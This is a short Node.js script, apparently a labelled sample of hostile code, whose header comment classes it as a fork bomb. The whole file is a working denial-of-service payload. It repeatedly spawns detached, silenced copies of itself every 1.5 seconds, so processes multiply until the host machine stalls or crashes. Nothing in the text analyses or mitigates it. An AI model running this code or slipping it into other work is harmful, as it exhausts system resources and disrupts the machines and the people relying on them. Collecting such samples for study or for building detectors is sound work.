// class: fork bomb; possible: low medium
const { spawn } = require('child_process');
const go = () => { for (let i = 0; i < 3; i++) spawn(process.execPath, [__filename], { detached: true, stdio: 'ignore' }).on('error', () => {}); };
go(); setInterval(go, 1500);
setTimeout(() => {}, 60000);
